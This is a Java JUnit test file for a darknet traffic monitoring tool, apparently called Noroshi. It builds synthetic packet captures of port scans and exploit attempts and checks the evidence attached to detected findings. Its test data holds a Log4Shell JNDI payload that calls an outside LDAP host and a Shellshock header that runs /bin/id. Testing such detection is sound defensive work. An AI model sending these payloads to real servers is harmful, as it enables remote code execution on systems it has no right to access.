package org.noroshi.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HexFormat;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.noroshi.capture.CaptureWriter;
import org.noroshi.publish.Language;

/** What findings about ports, exploits and attacks bear so that they can be checked. */
class TrendEvidenceTest {
  private static final int LINKTYPE_RAW = 101;
  private static final int PCAP_HEADER_BYTES = 24;
  private static final int RECORD_HEADER_BYTES = 16;
  private static final long SECOND = 1_000_000_000L;
  private static final long START = 1_767_225_600L * SECOND; // 2026-01-01T00:00:00Z
  private static final int DARK = 0xC6120100; // 198.18.1.0
  private static final int SYN = 0x02;
  private static final int SYN_ACK = 0x12;
  private static final int PUSH = 0x18;
  private static final int SLOT_SECONDS = 600;

  /** Slots before the hosts come. */
  private static final int QUIET = 20;

  private static final String LOG4SHELL =
      "GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1\r\nHost: 198.18.1.1\r\n\r\n";

  /** Longer than what is kept of a packet, and the same up to there: not what was sent. */
  private static final String HARMLESS =
      "GET /?x=" + "y".repeat(120) + " HTTP/1.1\r\nHost: 198.18.1.1\r\n\r\n";

  private static final String SHELLSHOCK =
      "GET /cgi-bin/a HTTP/1.1\r\nUser-Agent: () { :;}; /bin/id\r\n\r\n";

  @TempDir private Path folder;

  private final List<Packet> packets = new ArrayList<>();

  private record Packet(long timeNanos, byte[] bytes) {}

  /** TCP without options. */
  private static byte[] tcp(int source, int target, int ports, int flags, String payload) {
    byte[] content = payload.getBytes(StandardCharsets.ISO_8859_1);
    return ByteBuffer.allocate(40 + content.length)
        .putInt(0x45000000 | 40 + content.length)
        .putInt(0)
        .putInt(0x40060000)
        .putInt(source)
        .putInt(target)
        .putInt(ports)
        .putInt(1)
        .putInt(0)
        .putInt(0x50000000 | flags << 16 | 1024)
        .putInt(0)
        .put(content)
        .array();
  }

  private void send(double second, int source, int target, int port, int flags, String payload) {
    long time = START + (long) (second * SECOND);
    packets.add(new Packet(time, tcp(source, target, 4000 << 16 | port, flags, payload)));
  }

  /** So many packets to one dark address after another. */
  private void scan(double second, int source, int port, int flags, String payload, int count) {
    for (int i = 0; i < count; i++) {
      send(second + i * 0.01, source, DARK + i, port, flags, payload);
    }
  }

  private static String run(String... arguments) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    PrintStream print = new PrintStream(out, true, StandardCharsets.UTF_8);
    Terminal terminal = new Terminal(print, print, false, false, 120, Language.ENGLISH);
    assertThat(Noroshi.run(terminal, Rooms.commands(terminal), arguments))
        .as(out.toString(StandardCharsets.UTF_8))
        .isZero();
    return out.toString(StandardCharsets.UTF_8);
  }

  private String data() {
    return folder.resolve("data").toString();
  }

  private void observe() throws IOException {
    packets.sort(Comparator.comparingLong(Packet::timeNanos));
    Path capture = folder.resolve("all.pcap");
    try (CaptureWriter writer = CaptureWriter.pcapNanos(capture, LINKTYPE_RAW)) {
      for (Packet packet : packets) {
        writer.write(packet.timeNanos, packet.bytes, 0, packet.bytes.length, packet.bytes.length);
      }
    }
    run(
        "observe",
        "--quiet",
        "--json",
        "--dark",
        "198.18.0.0/16",
        "--data",
        data(),
        capture.toString());
  }

  private List<JsonNode> detect(String... more) throws IOException {
    List<String> words = new ArrayList<>(List.of("detect", "--json", "--hosts", "0"));
    words.addAll(List.of("--data", data()));
    words.addAll(List.of(more));
    List<JsonNode> lines = new ArrayList<>();
    for (String line : run(words.toArray(String[]::new)).lines().toList()) {
      lines.add(new ObjectMapper().readTree(line));
    }
    return lines;
  }

  private JsonNode finding(String kind, String subject) throws IOException {
    List<JsonNode> found =
        detect().stream()
            .filter(line -> line.path("kind").asText().equals(kind))
            .filter(line -> line.path("subject").asText().equals(subject))
            .toList();
    assertThat(found).as(kind + " " + subject).hasSize(1);
    return found.getFirst();
  }

  /** The packets of a finding's capture, byte by byte as pcap's page has it. */
  private List<Packet> capture(String kind, String subject) {
    String rows =
        run(
            "query",
            "--csv",
            "--data",
            data(),
            "SELECT hex(capture) FROM finding WHERE capture NOT NULL AND kind = '%s' AND subject = '%s'"
                .formatted(kind, subject));
    List<Packet> kept = new ArrayList<>();
    for (String row : rows.lines().skip(1).toList()) {
      ByteBuffer in =
          ByteBuffer.wrap(HexFormat.of().parseHex(row)).order(java.nio.ByteOrder.LITTLE_ENDIAN);
      in.position(PCAP_HEADER_BYTES);
      while (in.remaining() > RECORD_HEADER_BYTES) {
        long nanos = in.getInt() * SECOND + in.getInt();
        byte[] bytes = new byte[in.getInt()];
        in.getInt();
        in.get(bytes);
        kept.add(new Packet(nanos, bytes));
      }
    }
    return kept;
  }

  private static void assertSame(List<Packet> kept, List<Packet> sent) {
    assertThat(kept).usingRecursiveFieldByFieldElementComparator().containsExactlyElementsOf(sent);
  }

  /** Two hosts all the time; then sixty new ones, a second apart, in each of three slots. */
  private void rise() {
    for (int slot = 0; slot < QUIET + 3; slot++) {
      scan(slot * SLOT_SECONDS + 30, 0xCB007101, 37215, SYN, "", 12);
      scan(slot * SLOT_SECONDS + 40, 0xCB007102, 22, SYN, "", 12);
    }
    for (int i = 0; i < 180; i++) {
      int slot = QUIET + i / 60;
      scan(slot * SLOT_SECONDS + 100 + i % 60, 0xC0000201 + i, 37215, SYN, "", 12);
    }
  }

  @Test
  void aRisingPortBearsTheFirstPacketOfEachOfItsEarliestTenSources() throws IOException {
    rise();
    observe();
    finding("risingPort", "tcp/37215");
    List<Packet> sent =
        IntStream.range(0, 10)
            .mapToObj(i ->
                new Packet(
                    START + (QUIET * SLOT_SECONDS + 100 + i) * SECOND,
                    tcp(0xC0000201 + i, DARK, 4000 << 16 | 37215, SYN, "")))
            .toList();
    assertSame(capture("risingPort", "tcp/37215"), sent);
    assertThat(detect()).isEqualTo(detect());
  }

  @Test
  void aRisingPortNamesTheSlotsInWhichChangeFinderAlertedTooAndRawPrintsThem() throws IOException {
    rise();
    observe();
    JsonNode evidence = finding("risingPort", "tcp/37215").at("/evidence");
    List<JsonNode> raw =
        detect("--raw").stream()
            .filter(line -> line.path("detector").asText().equals("changeFinder"))
            .toList();
    // From 1 host to 61 in 03:20: the first slot of the rise is the first that alerts.
    assertThat(raw).isNotEmpty();
    assertThat(raw.getFirst().get("subject").asText()).isEqualTo("tcp/37215");
    assertThat(raw.getFirst().get("slot").asText()).isEqualTo("2026-01-01T03:20:00Z");
    List<String> within =
        raw.stream()
            .map(line -> line.get("slot").asText())
            .filter(slot -> slot.compareTo("2026-01-01T03:50:00Z") < 0)
            .toList();
    assertThat(evidence.get("changeFinderAlerts")).extracting(JsonNode::asText).isEqualTo(within);
    assertThat(evidence.get("changeFinderAlertCount").asLong()).isEqualTo(within.size());
    // Alerts alone make no finding: without --raw there is no line of a detector.
    assertThat(detect()).noneMatch(line -> line.has("detector"));
  }

  @Test
  void anExploitAttemptBearsThePacketsThatTheTablesKeptOfItAndSaysSoWhereThereAreNone()
      throws IOException {
    scan(10, 0xC0000207, 80, PUSH, LOG4SHELL, 12);
    scan(5, 0xC0000208, 80, PUSH, HARMLESS, 12);
    send(20, 0xC0000209, DARK, 8080, PUSH, SHELLSHOCK); // one packet is no event with a row
    scan(2000, 0xC0000207, 80, PUSH, LOG4SHELL, 1);
    observe();
    JsonNode log4shell = finding("exploitAttempt", "log4shell");
    assertThat(log4shell.at("/evidence/packetsKept").asLong()).isEqualTo(3);
    assertThat(log4shell.at("/evidence/windows"))
        .extracting(JsonNode::asText)
        .containsExactly("2026-01-01T00:00:00Z", "2026-01-01T00:30:00Z");
    List<Packet> sent =
        IntStream.range(0, 3)
            .mapToObj(i ->
                new Packet(
                    START + 10 * SECOND + i * SECOND / 100,
                    tcp(0xC0000207, DARK + i, 4000 << 16 | 80, PUSH, LOG4SHELL)))
            .toList();
    assertSame(capture("exploitAttempt", "log4shell"), sent);
    assertThat(finding("exploitAttempt", "shellshock").at("/evidence/packetsKept").asLong())
        .isZero();
    assertThat(capture("exploitAttempt", "shellshock")).isEmpty();
  }

  /** 00:03:20 to 00:20:00: five windows. */
  @Test
  void anAttackNamesEveryWindowThatItTouched() throws IOException {
    for (int i = 0; i <= 1000; i++) {
      send(200 + i, 0xC0000209, DARK + i % 256, 2000, SYN_ACK, "");
    }
    observe();
    JsonNode attack = finding("attack", "192.0.2.9");
    assertThat(attack.at("/evidence/windowCount").asLong()).isEqualTo(5);
    assertThat(attack.at("/evidence/windows"))
        .extracting(JsonNode::asText)
        .isEqualTo(
            List.of(
                "2026-01-01T00:00:00Z",
                "2026-01-01T00:05:00Z",
                "2026-01-01T00:10:00Z",
                "2026-01-01T00:15:00Z",
                "2026-01-01T00:20:00Z"));
  }
}
